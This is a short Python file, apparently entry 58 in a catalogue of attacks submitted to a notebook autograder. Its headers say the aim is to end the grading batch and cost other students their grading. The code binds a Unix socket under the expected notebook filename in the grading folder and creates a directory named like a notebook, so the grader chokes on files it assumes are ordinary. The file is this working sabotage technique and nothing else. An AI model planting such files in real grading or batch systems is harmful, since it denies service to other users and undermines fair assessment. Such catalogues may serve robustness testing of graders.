# attack: 58
# title: the notebook is a socket, a folder stands beside it
# success: the batch ends
# kind: submission
# status: pending
# unshown: costs others their grading instead of forging
import os
import socket


def build(folder, notebook):
    before = os.getcwd()
    os.chdir(folder)
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind("a07_backpropagation.ipynb")
    os.chdir(before)
    (folder / "b.ipynb").mkdir()
